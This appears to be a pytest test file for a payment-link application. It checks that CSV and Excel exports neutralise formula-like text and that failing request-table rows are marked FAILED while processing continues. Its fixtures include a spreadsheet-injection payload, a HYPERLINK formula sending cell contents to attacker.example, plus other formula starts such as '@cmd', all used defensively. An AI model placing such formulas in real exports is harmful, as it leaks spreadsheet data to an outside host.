"""Spreadsheet formulas and report files (issue 14, items 9, 11 and 16): text that begins like a formula reaches
every export as text, reports go through the csv module, and a request-table row nobody foresaw is answered in its
own columns while the queue moves on."""

from __future__ import annotations

import csv
import io
import sqlite3
import tempfile
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from tests_support import STAFF, bearer

from agent.api import app as api
from agent.cli.main import main
from agent.core.model import Actor
from agent.engine.bulk import TEMPLATE_HEADER
from agent.engine.export import (
    FORMULA_STARTS,
    ColumnSpec,
    cell_text,
    neutralise,
    set_text_cell,
    write_csv,
)
from agent.engine.intake import InboxIntake, process_request_table
from agent.engine.links import LinkRequest
from agent.home.demo import init_home
from agent.runtime import Runtime

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
NAMES = [EVIL, "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR", "Ada Lovelace"]


def quick_links(rt: Runtime) -> None:
    for i, name in enumerate(NAMES):
        rt.links.create(STAFF, LinkRequest(amount=Decimal("10.00"), name=name, email=f"p{i}@example.com",
                                           invoice=f"Q-{i}"))


def test_xlsx_export_stores_formula_like_text_as_text(rt: Runtime, tmp_path: Path) -> None:
    quick_links(rt)
    out = tmp_path / "sent.xlsx"
    rt.exporter.links(out, columns=["payer_name", "amount"])
    cells = {row[0].value.replace("\n", "\r"): row[0] for row in load_workbook(out).active.iter_rows(min_row=2)}
    assert set(cells) == set(NAMES)  # (XML reads a stored CR back as LF)
    assert all(cell.data_type == "s" for cell in cells.values())
    assert all(cells[name].quotePrefix for name in NAMES[:-1]) and not cells["Ada Lovelace"].quotePrefix


def test_csv_export_quotes_every_field_and_prefixes_formula_like_text(rt: Runtime, tmp_path: Path) -> None:
    quick_links(rt)
    out = tmp_path / "sent.csv"
    rt.exporter.links(out, columns=["payer_name", "amount"])
    raw = out.read_bytes().decode("utf-8-sig")
    assert '"=HYPERLINK' not in raw and raw.startswith('"Recipient Name","Amount"')
    names = {row[0]: row[1] for row in list(csv.reader(io.StringIO(raw, newline="")))[1:]}
    assert set(names) == {"'" + n for n in NAMES[:-1]} | {"Ada Lovelace"}
    assert set(names.values()) == {"10.00"}
    assert neutralise("-70.00") == "'-70.00" and neutralise("Q-1") == "Q-1"


def test_console_workbook_keeps_a_formula_payer_as_text(rt: Runtime) -> None:
    quick_links(rt)
    server = api.serve_api(rt, "127.0.0.1", 0)
    try:
        answer = httpx.get(f"{server.url}/sent-pages/export", params={"columns": ["payer_name"]}, timeout=10,
                           headers={"Authorization": f"Bearer {bearer(rt.store)}"})
    finally:
        server.stop()
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {c.value.replace("\n", "\r") for c in cells} == set(NAMES) and all(c.data_type == "s" for c in cells)


def test_bulk_links_for_download_neutralise_formula_like_text(tmp_path: Path) -> None:
    home = tmp_path / "home"
    init_home(home)
    upload = tmp_path / "upload.csv"
    with upload.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([TEMPLATE_HEADER,
                                 ["Q-1", "2026-11-01", "2026-12-01", EVIL, "a@example.com", "5.00", ""]])
    out = tmp_path / "links.csv"
    assert main(["--home", str(home), "bulk", "links", str(upload), "-o", str(out)]) == 0
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[1][1] == "'" + EVIL


BULK_HEADER = ",".join(TEMPLATE_HEADER)


def test_inbox_links_report_is_real_csv(rt: Runtime) -> None:
    inbox = InboxIntake(rt.links, rt.settings.home / "inbox", settle=0.0)
    inbox.folder.mkdir()
    (inbox.folder / "batch.csv").write_text(
        BULK_HEADER + "\n"
        '"Q,100",2026-11-01,2026-12-01,Ada,ada@example.com,1.00,\n'
        '"=1+2",2026-11-01,2026-12-01,Bob,bob@example.com,2.00,"Fees, with a comma"\n', encoding="utf-8")
    inbox.ready()
    [moved] = inbox.scan()
    report = moved.with_name(moved.name + ".links.csv")
    rows = list(csv.reader(report.open(encoding="utf-8", newline="")))
    assert rows[0] == ["invoice_number", "link_id", "status", "url", "existing"]
    assert [(r[0], r[2], len(r)) for r in rows[1:]] == [("Q,100", "outstanding", 5), ("'=1+2", "outstanding", 5)]


def test_request_row_that_breaks_unexpectedly_is_answered_and_the_queue_moves_on(
        rt: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
    with sqlite3.connect(rt.settings.home / "demo-firm.db") as db:
        db.execute("INSERT INTO pay_requests (matter_no, amount) VALUES ('M-2026-0010', '5.00')")
        db.execute("INSERT INTO pay_requests (matter_no, amount) VALUES ('M-2026-0011', '6.00')")
    create = rt.links.create

    def flaky(actor: Actor, request: LinkRequest, *args: Any, **kwargs: Any) -> Any:
        if request.matter == "M-2026-0010":
            raise KeyError("payer_key")  # a bug or a row shape nobody foresaw
        return create(actor, request, *args, **kwargs)

    monkeypatch.setattr(rt.links, "create", flaky)
    assert process_request_table(rt.connector, rt.mapping.requests, rt.links) == 1
    with sqlite3.connect(rt.settings.home / "demo-firm.db") as db:
        rows = db.execute("SELECT status, error FROM pay_requests ORDER BY id").fetchall()
    assert rows[0][0] == "FAILED" and "KeyError" in rows[0][1] and "set its status back to NEW" in rows[0][1]
    assert rows[1] == ("LINKED", None)
    # the bad row is not retried for ever
    assert process_request_table(rt.connector, rt.mapping.requests, rt.links) == 0


def test_request_row_naming_an_unknown_account_is_refused_in_its_row(rt: Runtime) -> None:
    spec = rt.mapping.requests
    assert spec is not None
    with_account = spec.model_copy(update={"columns": {**spec.columns, "account": "account"}})
    rt.apply(rt.settings, rt.mapping.model_copy(update={"requests": with_account}))
    with sqlite3.connect(rt.settings.home / "demo-firm.db") as db:
        db.execute("ALTER TABLE pay_requests ADD COLUMN account TEXT")
        db.execute("INSERT INTO pay_requests (matter_no, account) VALUES ('M-2026-0010', 'nope')")
        db.execute("INSERT INTO pay_requests (matter_no, account) VALUES ('M-2026-0011', 'operating')")
    assert process_request_table(rt.connector, rt.mapping.requests, rt.links) == 1
    with sqlite3.connect(rt.settings.home / "demo-firm.db") as db:
        rows = db.execute("SELECT status, error FROM pay_requests ORDER BY id").fetchall()
    assert rows[0][0] == "FAILED" and "unknown merchant account 'nope'" in rows[0][1]
    assert rows[1] == ("LINKED", None)


# ------------------------------------------------------------------------------------------- properties

TEXT = st.text(max_size=40) | st.builds(lambda c, t: c + t, st.sampled_from(FORMULA_STARTS), st.text(max_size=20))


@settings(max_examples=200, deadline=None)
@given(TEXT)
def test_property_any_text_reads_back_from_csv_as_itself_or_quoted_never_as_a_formula(text: str) -> None:
    out = io.StringIO()
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "cells.csv"
        write_csv(path, [{"payer_name": text}], [ColumnSpec("payer_name", "Recipient Name")], ZoneInfo("UTC"))
        out.write(path.read_bytes().decode("utf-8-sig"))
    [header, [cell]] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert header == ["Recipient Name"]
    assert cell == (("'" + text) if text.startswith(FORMULA_STARTS) else text)
    assert not cell.startswith(FORMULA_STARTS)


@settings(max_examples=100, deadline=None)
@given(TEXT)
def test_property_any_text_is_a_string_cell_in_a_workbook(text: str) -> None:
    book = Workbook()
    cell = book.active.cell(row=1, column=1)
    set_text_cell(cell, text)  # a control character must not make the whole export fail
    buffer = io.BytesIO()
    book.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue())).active.cell(row=1, column=1)
    assert back.data_type in ("s", "inlineStr")  # text, never "f" (a formula)
    assert (back.value or "") == cell_text(text).replace("\r\n", "\n").replace("\r", "\n")
    assert back.quotePrefix == text.startswith(FORMULA_STARTS)
